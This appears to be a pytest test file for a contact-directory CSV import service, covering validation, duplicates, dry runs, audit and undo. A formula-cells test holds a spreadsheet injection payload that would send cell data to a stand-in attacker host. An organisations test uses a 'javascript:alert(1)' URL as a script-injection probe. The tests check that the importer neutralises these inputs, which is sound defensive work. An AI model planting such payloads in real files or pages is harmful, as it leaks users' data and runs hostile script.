"""Checking rows, importing them in one transaction, duplicates, and undo (I8, D1)."""

from __future__ import annotations

import pytest
import sqlalchemy as sa

from outreach.audit.models import AuditEvent
from outreach.audit.services import acting_as
from outreach.contacts.services import ContactData, update_contact
from outreach.directory.models import Contact, Organisation, Posting, Tag
from outreach.extensions import db
from outreach.imports import services
from outreach.imports.models import ImportBatch
from tests.imports.conftest import new_contact, new_organisation


def run(text: str, kind: str = "contacts", on_duplicate: str = "skip", dry_run: bool = False):
    with acting_as("test import"):
        return services.import_file(kind, "file.csv", text.encode(), on_duplicate, dry_run)[2]


def statuses(result) -> dict[int, str]:
    return {row.number: row.status for row in result.rows}


def messages(result, number: int) -> str:
    return " | ".join(next(r for r in result.rows if r.number == number).messages)


def count(model) -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(model))


def contact_by_email(address: str) -> Contact:
    from outreach.directory.models import ContactEmail

    return db.session.scalar(
        sa.select(Contact).join(ContactEmail).where(ContactEmail.normalised == address.lower())
    )


def test_each_faulty_row_is_reported_with_its_number_its_column_and_why(app):
    result = run(
        "Last name,First name,Email,Phone,Country,Language,Areas,No mail\n"
        "Pérez,Ana,ana@example.org,+41 22 345 67 89,CHE,fr,clearance,no\n"
        ",Nobody,nobody@example.org,,,,,\n"
        "Doe,Jo,not-an-email,,,,,\n"
        "Roe,Ri,ri@example.org,12,,,,\n"
        "Atl,As,as@example.org,,Atlantis,,,\n"
        "Lang,Le,le@example.org,,,Klingon,,\n"
        "Area,Ar,ar@example.org,,,,astrology,\n"
        "Mail,Ma,ma@example.org,,,,,perhaps\n"
    )
    assert statuses(result) == {
        2: "created",
        3: "error",
        4: "error",
        5: "error",
        6: "error",
        7: "error",
        8: "error",
        9: "error",
    }
    assert messages(result, 3).startswith("Last name: Enter the family name")
    assert messages(result, 4).startswith("Email: not-an-email: ")
    assert messages(result, 5) == "Phone: '12' is not a phone number."
    assert messages(result, 6).startswith("Country: Unknown State “Atlantis”")
    assert messages(result, 7).startswith("Language: Unknown language “Klingon”")
    assert messages(result, 8) == "Areas: Unknown thematic area “astrology”."
    assert messages(result, 9) == "No mail: “perhaps” is not yes or no."
    ana = contact_by_email("ana@example.org")
    assert (ana.first_name, ana.preferred_language, [a.slug for a in ana.areas]) == (
        "Ana",
        "fr",
        ["clearance"],
    )
    assert [p.number for p in ana.phones] == ["+41223456789"]
    assert count(Contact) == 1


def test_states_are_found_by_iso3_iso2_english_name_and_common_names(app):
    result = run(
        "Last name,Organisation,State\n"
        "A,Org A,FRA\nB,Org B,fr\nC,Org C,France\nD,Org D,United Kingdom\n"
        "E,Org E,bolivia\nF,Org F,COTE D'IVOIRE\nG,Org G,Turkey\n"
    )
    assert set(statuses(result).values()) == {"created"}
    states = dict(
        db.session.execute(
            sa.select(Organisation.name, sa.text("state.iso3")).join(Organisation.state)
        ).all()
    )
    assert states == {
        "Org A": "FRA",
        "Org B": "FRA",
        "Org C": "FRA",
        "Org D": "GBR",
        "Org E": "BOL",
        "Org F": "CIV",
        "Org G": "TUR",
    }


def test_organisations_are_matched_by_name_or_acronym_else_created_once_in_their_state(app):
    unmas = db.session.scalar(sa.select(Organisation).where(Organisation.acronym == "UNMAS"))
    before = count(Organisation)
    text = (
        "Last name,Organisation,Position,State\n"
        "Alpha,unmas,Chief,\n"
        "Beta,Permanent Mission of Atlantis,Counsellor,NOR\n"
        "Gamma,permanent mission of atlantis,Attaché,NOR\n"
    )
    preview = services.check_rows(
        "contacts",
        services.read_file(text.encode(), "f.csv"),
        ["last_name", "organisation", "position", "state"],
    )
    assert preview.new_organisations == ["Permanent Mission of Atlantis (Norway)"]
    assert preview.rows[1].new_organisation == "Permanent Mission of Atlantis (Norway)"
    run(text)
    assert count(Organisation) == before + 1
    created = db.session.scalar(
        sa.select(Organisation).where(Organisation.id > unmas.id).order_by(Organisation.id.desc())
    )
    assert (created.name, created.kind.value, created.state.iso3) == (
        "Permanent Mission of Atlantis",
        "other",
        "NOR",
    )
    postings = db.session.execute(
        sa.select(Contact.last_name, Posting.organisation_id, Posting.position).join(Posting)
    ).all()
    assert sorted(postings) == [
        ("Alpha", unmas.id, "Chief"),
        ("Beta", created.id, "Counsellor"),
        ("Gamma", created.id, "Attaché"),
    ]


def test_organisations_of_the_same_name_are_told_apart_by_state(app):
    france = new_organisation("Ministry of Foreign Affairs", "ministry", state_iso3="FRA")
    swiss = new_organisation("Ministry of Foreign Affairs", "ministry", state_iso3="CHE")
    result = run(
        "Last name,Organisation,State\n"
        "Dupont,Ministry of Foreign Affairs,FRA\n"
        "Keller,Ministry of foreign affairs,CH\n"
        "Nobody,Ministry of Foreign Affairs,\n"
    )
    assert statuses(result) == {2: "created", 3: "created", 4: "error"}
    assert "Several organisations are called" in messages(result, 4)
    posted = dict(
        db.session.execute(
            sa.select(Contact.last_name, Posting.organisation_id).join(Posting)
        ).all()
    )
    assert posted == {"Dupont": france.id, "Keller": swiss.id}


def test_emails_may_share_a_cell_or_come_from_several_columns(app):
    run(
        "Last name,Email,Work email\n"
        'Doe,"jo@example.org; JO.DOE@Example.org, j@example.org",second@example.org\n'
    )
    doe = contact_by_email("jo@example.org")
    assert [e.address for e in doe.emails] == [
        "jo@example.org",
        "JO.DOE@example.org",
        "j@example.org",
        "second@example.org",
    ]


def test_formula_cells_are_imported_as_text_never_evaluated(app):
    run(
        'Last name,First name,Notes\n"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'
        "@SUM(1),+1-2\n"
    )
    contact = db.session.scalar(sa.select(Contact))
    assert contact.last_name == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert (contact.first_name, contact.notes) == ("@SUM(1)", "+1-2")


def test_duplicates_by_email_are_skipped_or_updated_as_chosen(app):
    existing = new_contact(
        "Pérez", first_name="Ana", emails=["ana@example.org"], tags=["donor"], notes="Keep me"
    )
    text = (
        "Last name,First name,Email,Tags,Notes,Language\n"
        "Perez,Ana María,ANA@example.org;ana.perez@example.org,3RC,,es\n"
    )
    skipped = run(text)
    assert statuses(skipped) == {2: "skipped"}
    assert f"same email: Ana Pérez (#{existing.id})" in messages(skipped, 2)
    assert skipped.batch is None  # nothing imported, no batch to undo
    updated = run(text, on_duplicate="update")
    assert statuses(updated) == {2: "updated"}
    contact = db.session.get(Contact, existing.id)
    assert (contact.last_name, contact.first_name, contact.notes, contact.preferred_language) == (
        "Perez",
        "Ana María",
        "Keep me",  # an empty cell leaves the value as it was
        "es",
    )
    assert [e.address for e in contact.emails] == ["ana@example.org", "ana.perez@example.org"]
    assert sorted(t.name for t in contact.tags) == ["3RC", "donor"]
    assert count(Contact) == 1
    again = run(text, on_duplicate="update")
    assert statuses(again) == {2: "unchanged"}


def test_duplicates_within_the_file_are_left_out_with_the_row_they_repeat(app):
    result = run(
        "Last name,Email,Organisation\n"
        "Doe,jo@example.org,UNMAS\n"
        "Doe,JO@example.org,\n"
        "Roe,,UNMAS\n"
        "Roe,,unmas\n"
    )
    assert statuses(result) == {2: "created", 3: "repeat", 4: "created", 5: "repeat"}
    assert messages(result, 3) == "the same record as row 2"
    assert count(Contact) == 2


def test_a_person_without_email_is_a_duplicate_by_name_at_the_same_organisation(app):
    unmas = db.session.scalar(sa.select(Organisation).where(Organisation.acronym == "UNMAS"))
    new_contact("Lindqvist", unmas, first_name="Åsa")
    result = run("First name,Last name,Organisation\nasa,LINDQVIST,UNMAS\n")
    assert statuses(result) == {2: "skipped"}
    assert "same name at the same organisation" in messages(result, 2)


def test_a_dry_run_reports_and_saves_nothing(app):
    result = run("Last name,Email\nDoe,jo@example.org\nRoe,bad\n", dry_run=True)
    assert statuses(result) == {2: "would create", 3: "error"}
    assert count(Contact) == 0 and count(ImportBatch) == 0


def test_each_created_record_is_in_the_audit_trail_and_the_import_too(app):
    result = run("Last name,Email\nDoe,jo@example.org\nRoe,ri@example.org\n")
    events = db.session.scalars(
        sa.select(AuditEvent).where(
            AuditEvent.record_type == "Contact", AuditEvent.action == "create"
        )
    ).all()
    assert len(events) == 2 and {e.actor_label for e in events} == {"test import"}
    batch_event = db.session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "import"))
    assert batch_event.record_id == str(result.batch.id)
    assert "2 created" in batch_event.detail


def test_d1_a_failure_in_the_middle_leaves_nothing_half_imported_and_a_rerun_no_duplicates(
    app, monkeypatch
):
    text = "Last name,Email,Organisation,State\n" + "".join(
        f"Person {i},p{i}@example.org,New Org {i % 3},FRA\n" for i in range(10)
    )
    before = (count(Contact), count(Organisation), count(Posting), count(ImportBatch), count(Tag))
    real_create = services._ContactImporter.create
    calls = []

    def fail_on_the_fifth(self, check):
        calls.append(check.number)
        if len(calls) == 5:
            raise RuntimeError("the process was killed")
        return real_create(self, check)

    monkeypatch.setattr(services._ContactImporter, "create", fail_on_the_fifth)
    with pytest.raises(RuntimeError):
        run(text)
    assert (
        count(Contact),
        count(Organisation),
        count(Posting),
        count(ImportBatch),
        count(Tag),
    ) == before
    monkeypatch.setattr(services._ContactImporter, "create", real_create)
    assert set(statuses(run(text)).values()) == {"created"}
    assert set(statuses(run(text)).values()) == {"skipped"}
    assert count(Contact) == before[0] + 10
    assert count(Organisation) == before[1] + 3


def test_undo_deletes_what_an_import_created_and_restores_what_it_updated(app):
    existing = new_contact("Keller", first_name="Urs", emails=["urs@example.org"], notes="Old")
    before_orgs = count(Organisation)
    result = run(
        "Last name,Email,Notes,Organisation,Tags\n"
        "Keller,urs@example.org,New notes,Brand New Org,vip\n"
        "Doe,jo@example.org,,Brand New Org,vip\n",
        on_duplicate="update",
    )
    assert statuses(result) == {2: "updated", 3: "created"}
    assert db.session.get(Contact, existing.id).notes == "New notes"
    with acting_as("test"):
        batch = services.undo_batch(result.batch.id)
    assert batch.undone_at is not None
    keller = db.session.get(Contact, existing.id)
    assert (keller.notes, keller.tags, keller.postings) == ("Old", [], [])
    assert [e.address for e in keller.emails] == ["urs@example.org"]
    assert contact_by_email("jo@example.org") is None
    assert count(Organisation) == before_orgs
    with pytest.raises(services.UndoError, match="already undone"):
        services.undo_batch(result.batch.id)


def test_undo_is_refused_when_a_record_changed_since_the_import(app):
    result = run("Last name,Email\nDoe,jo@example.org\nRoe,ri@example.org\n")
    doe = contact_by_email("jo@example.org")
    with acting_as("test"):
        update_contact(
            doe, ContactData(last_name="Doe-Smith", emails=["jo@example.org"]), doe.version
        )
    with pytest.raises(services.UndoError) as refused:
        services.undo_batch(result.batch.id)
    assert "changed since the import" in str(refused.value) and "Doe-Smith" in str(refused.value)
    db.session.rollback()
    assert count(Contact) == 2
    assert db.session.get(ImportBatch, result.batch.id).undone_at is None


def test_undo_of_an_update_is_refused_when_the_record_changed_again(app):
    existing = new_contact("Keller", emails=["urs@example.org"])
    result = run("Last name,Email,Notes\nKeller,urs@example.org,Imported\n", on_duplicate="update")
    contact = db.session.get(Contact, existing.id)
    with acting_as("test"):
        update_contact(
            contact,
            ContactData(last_name="Keller", emails=["urs@example.org"], notes="Edited"),
            contact.version,
        )
    with pytest.raises(services.UndoError):
        services.undo_batch(result.batch.id)
    db.session.rollback()
    assert db.session.get(Contact, existing.id).notes == "Edited"


def test_organisations_import_with_kinds_duplicates_by_name_and_state_update_and_undo(app):
    existing = new_organisation("Mines Advisory Group", "ngo", state_iso3="GBR", acronym="MAG")
    text = (
        "Name,Acronym,Type,Country,Website,Email,Tags\n"
        "Mines Advisory Group,MAG,NGO,GB,https://maginternational.org,,demining\n"
        "Lausanne Test Centre,LTC,International organisation,CHE,https://ltc.example.org,info@ltc.example.org,\n"
        "Bad Site,,ngo,,javascript:alert(1),,\n"
        "Odd Kind,,spaceship,,,,\n"
        "lausanne test centre,,,Switzerland,,,\n"
    )
    result = run(text, kind="organisations", on_duplicate="update")
    assert statuses(result) == {2: "updated", 3: "created", 4: "error", 5: "error", 6: "repeat"}
    assert messages(result, 4).startswith("Website: Enter a web address starting with http")
    assert messages(result, 5).startswith("Type: Unknown kind “spaceship”")
    mag = db.session.get(Organisation, existing.id)
    assert (mag.website, [t.name for t in mag.tags]) == (
        "https://maginternational.org",
        ["demining"],
    )
    centre = db.session.scalar(sa.select(Organisation).where(Organisation.acronym == "LTC"))
    assert (centre.kind.value, centre.state.iso3, centre.email) == (
        "international_organisation",
        "CHE",
        "info@ltc.example.org",
    )
    services.undo_batch(result.batch.id)
    mag = db.session.get(Organisation, existing.id)
    assert (mag.website, mag.tags) == (None, [])
    assert db.session.scalar(sa.select(Organisation).where(Organisation.acronym == "LTC")) is None


def test_undo_of_organisations_is_refused_once_someone_works_there(app):
    result = run("Name,Type\nNew Centre,ngo\n", kind="organisations")
    centre = db.session.scalar(sa.select(Organisation).where(Organisation.name == "New Centre"))
    new_contact("Doe", centre)
    with pytest.raises(services.UndoError, match="New Centre"):
        services.undo_batch(result.batch.id)


def test_checking_and_importing_run_the_same_queries_for_10_rows_as_for_300(app, count_queries):
    def selects(rows: int) -> int:
        text = "Last name,Email,Organisation,State,Tags,Areas,Keywords\n" + "".join(
            f"P{rows}-{i},p{rows}.{i}@example.org,Org {rows}-{i % 7},FRA,"
            f"tag {i % 5},clearance,kw {i % 3}\n"
            for i in range(rows)
        )
        with count_queries() as counter:
            result = run(text)
        assert result.count("created") == rows
        return sum(1 for s in counter.statements if s.lstrip().upper().startswith("SELECT"))

    assert selects(10) == selects(300)


def test_10000_rows_import_in_one_transaction(app):
    text = "Last name,First name,Email,Language,State\n" + "".join(
        f"Name{i},First{i},person{i}@example.org,{('en', 'fr', 'es')[i % 3]},"
        f"{('FRA', 'CHE', 'LAO')[i % 3]}\n"
        for i in range(10_000)
    )
    result = run(text)
    assert result.count("created") == 10_000
    assert count(Contact) == 10_000


def test_states_are_recognised_by_their_french_and_spanish_names(app, staff):
    from outreach.imports.services import Lookups

    lookups = Lookups("contacts")

    assert lookups.state("Suisse").iso3 == "CHE"
    assert lookups.state("Suiza").iso3 == "CHE"
    assert lookups.state("Côte d’Ivoire").iso3 == "CIV"
    assert lookups.state("Allemagne").iso3 == "DEU"
